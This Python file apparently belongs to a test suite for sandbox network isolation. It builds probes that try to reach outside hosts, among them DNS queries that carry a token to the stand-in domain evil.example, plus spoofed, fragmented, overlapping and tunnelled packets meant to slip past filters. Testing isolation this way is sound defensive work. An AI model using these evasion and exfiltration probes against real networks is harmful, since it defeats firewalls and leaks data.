# SPDX-License-Identifier: GPL-2.0-or-later
"""
What a sandbox may try. Each function returns a probe, which lib/confined.py runs.

Addresses may be functions of the sandbox: PEER4 is another sandbox of the same network.
"""

import random
import socket
import struct
import time

from lib import frames as f
from lib import zone
from lib.dnsmsg import query

TIMEOUT_S = 3.0
SHORT_S = 0.3

EVIL4, EVIL6 = zone.v4(66), zone.v6(66)
GOOD4, GOOD6 = zone.v4(10), zone.v6(10)


def peer4(box):
    return box.peer.v4


def peer6(box):
    return box.peer.v6


def gateway4(box):
    return box.net.gateway4


def gateway6(box):
    return box.net.gateway6


def _address(address, box):
    return address(box) if callable(address) else address


def _family(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def _exchange(s, tok):
    return _tell(s, tok) if s.type == socket.SOCK_STREAM else _ask(s, tok)


def _ask(s, tok):
    s.sendall(tok.encode() + b"\n")
    return s.recv(999)


def _tell(s, tok):
    """Over a connection: not every server answers, and that it was made is enough."""
    s.sendall(tok.encode() + b"\r\n\r\n")
    s.settimeout(SHORT_S)
    try:
        return s.recv(999)
    except TimeoutError:
        return b""


# --- Ordinary sockets.

def tcp(address, port, kind=socket.SOCK_STREAM, proto=0, options=()):
    def probe(t, box, tok):
        to = _address(address, box)
        with box.socket(_family(to), kind, proto) as s:
            s.settimeout(TIMEOUT_S)
            for level, name, value in options:
                s.setsockopt(level, name, value)
            s.connect((to, port))
            return _exchange(s, tok)
    return probe


def udp(address, port, proto=0, options=(), connected=True):
    def probe(t, box, tok):
        to = _address(address, box)
        with box.socket(_family(to), socket.SOCK_DGRAM, proto) as s:
            s.settimeout(TIMEOUT_S if connected else SHORT_S)
            for level, name, value in options:
                s.setsockopt(level, name, value)
            if connected:
                s.connect((to, port))
                return _exchange(s, tok)
            s.sendto(tok.encode(), (to, port))
            return s.recv(999)
    return probe


def mapped(address, port, kind):
    """An IPv4 destination on an IPv6 socket."""
    def probe(t, box, tok):
        with box.socket(socket.AF_INET6, kind) as s:
            s.settimeout(TIMEOUT_S)
            s.connect(("::ffff:" + address, port))
            return _exchange(s, tok)
    return probe


def fast_open(address, port):
    def probe(t, box, tok):
        with box.socket(_family(address), socket.SOCK_STREAM) as s:
            s.sendto(tok.encode() + b"\n", socket.MSG_FASTOPEN, (address, port))
            s.settimeout(TIMEOUT_S)
            return s.recv(99)
    return probe


def link_local(port, kind):
    """The bridge's own fe80:: address."""
    def probe(t, box, tok):
        with box.inside(), socket.socket(socket.AF_INET6, kind) as s:
            s.settimeout(TIMEOUT_S)
            s.connect((box.net.link_local, port, 0, socket.if_nametoindex("eth0")))
            return _exchange(s, tok)
    return probe


def multicast(address, port):
    def probe(t, box, tok):
        with box.inside(), socket.socket(_family(address), socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
            s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            if ":" in address:
                s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF,
                             socket.if_nametoindex("eth0"))
            else:
                s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                             socket.inet_aton(box.v4))
            s.sendto(tok.encode(), (address, port))
    return probe


def ping(address, size=0, of=None):
    """An echo request, or another type, whose payload is the token."""
    def probe(t, box, tok):
        to = _address(address, box)
        proto = socket.IPPROTO_ICMPV6 if ":" in to else socket.IPPROTO_ICMP
        message = f.echo(box.own(to), to, tok.encode() + bytes(size))
        if of is not None:
            message = f.icmp(box.own(to), to, of, 0, message[4:])
        with box.socket(_family(to), socket.SOCK_RAW, proto) as s:
            s.sendto(message, (to, 0))
    return probe


def question(server, over="udp"):
    def probe(t, box, tok):
        to = _address(server, box)
        message = query(7, f"{tok}.evil.example")
        kind = socket.SOCK_DGRAM if over == "udp" else socket.SOCK_STREAM
        with box.socket(_family(to), kind) as s:
            s.settimeout(TIMEOUT_S)
            s.connect((to, 53))
            s.sendall(message if over == "udp" else struct.pack("!H", len(message)) + message)
            return s.recv(999)
    return probe


def source_port():
    """A new flow each time: what is established is not judged again."""
    return random.randrange(10000, 60000)


# --- Packets made by hand, out of the sandbox's port. They are sent and forgotten.

def _frame(box, packet, to, src_mac=None, dst_mac=None, tags=()):
    kind = f.IP6 if packet[0] >> 4 == 6 else f.IP4
    f.send(box, f.ether(dst_mac or box.net.mac(1), src_mac or box.mac, kind, packet, tags))


def datagram(address, port=999, source=None, src_mac=None, dst_mac=None, tags=(), **options):
    """A UDP packet to the gateway's MAC; source, src_mac, dst_mac: functions of the sandbox."""
    def probe(t, box, tok):
        to = _address(address, box)
        own = _address(source, box) if source else box.own(to)
        packet = f.ip(own, to, 17, f.udp(own, to, source_port(), port, tok.encode()), **options)
        _frame(box, packet, to, src_mac and src_mac(box), dst_mac and dst_mac(box), tags)
    return probe


def segment(address, port, flags, source=None, src_mac=None):
    """A TCP segment with the token in it."""
    def probe(t, box, tok):
        to = _address(address, box)
        own = _address(source, box) if source else box.own(to)
        data = f.tcp(own, to, source_port(), port, flags, tok.encode(), ack=1)
        _frame(box, f.ip(own, to, 6, data), to, src_mac and src_mac(box))
    return probe


def protocol(address, number, dst_mac=None):
    """Any protocol of IP."""
    def probe(t, box, tok):
        to = _address(address, box)
        packet = f.ip(box.own(to), to, number, bytes(8) + tok.encode())
        _frame(box, packet, to, dst_mac=dst_mac and dst_mac(box))
    return probe


def fragments(address, port=999, first=16, lone=False):
    """A UDP packet in two fragments; the first has `first` bytes; lone: only the second."""
    def probe(t, box, tok):
        to = _address(address, box)
        own = box.own(to)
        whole = f.udp(own, to, source_port(), port, bytes(16) + tok.encode() + bytes(5))
        parts = [(0, whole[:first], True), (first, whole[first:], False)]
        for offset, data, more in parts[1:] if lone else parts:
            if ":" in to:
                packet = f.ip6(own, to, 44, f.fragment6(17, offset, more, data))
            else:
                packet = f.ip4(own, to, 17, data, offset=offset, more=more)
            _frame(box, packet, to)
    return probe


def overlap(address):
    """Fragments of a packet for an open port, of which a second rewrites the port."""
    def probe(t, box, tok):
        own, sport = box.own(address), source_port()
        fine = f.udp(own, address, sport, 7007, bytes(16) + tok.encode() + bytes(5))
        bad = f.udp(own, address, sport, 999, bytes(16) + tok.encode() + bytes(5))
        for offset, data, more in ((0, fine[:16], True), (0, bad[:16], True),
                                   (16, fine[16:], False)):
            if ":" in address:
                packet = f.ip6(own, address, 44, f.fragment6(17, offset, more, data, 99))
            else:
                packet = f.ip4(own, address, 17, data, offset=offset, more=more, ident=99)
            _frame(box, packet, address)
        time.sleep(0.05)
    return probe


def extension(address, build, port=999, sport=None):
    """IPv6 with an extension header in front of UDP; build(inner_proto, payload, box)."""
    def probe(t, box, tok):
        payload = f.udp(box.v6, address, sport or source_port(), port, tok.encode())
        number, body = build(17, payload, box)
        _frame(box, f.ip6(box.v6, address, number, body), address)
    return probe


def options4(address, raw, port=999, sport=None):
    def probe(t, box, tok):
        option = raw(box) if callable(raw) else raw
        payload = f.udp(box.v4, address, sport or source_port(), port, tok.encode())
        packet = f.ip4(box.v4, address, 17, payload, options=option)
        _frame(box, packet, address)
    return probe


def tunnel(address, number, wrap):
    """An inner packet to evil inside something for `address`."""
    def probe(t, box, tok):
        to = _address(address, box)
        inner = f.ip4(box.v4, EVIL4, 17, f.udp(box.v4, EVIL4, source_port(), 999, tok.encode()))
        payload = wrap(inner, box, to)
        _frame(box, f.ip(box.own(to), to, number, payload), to)
    return probe


def raw_frame(build):
    """build(box, token) makes a whole frame."""
    def probe(t, box, tok):
        f.send(box, build(box, tok.encode()))
        time.sleep(0.01)
    return probe
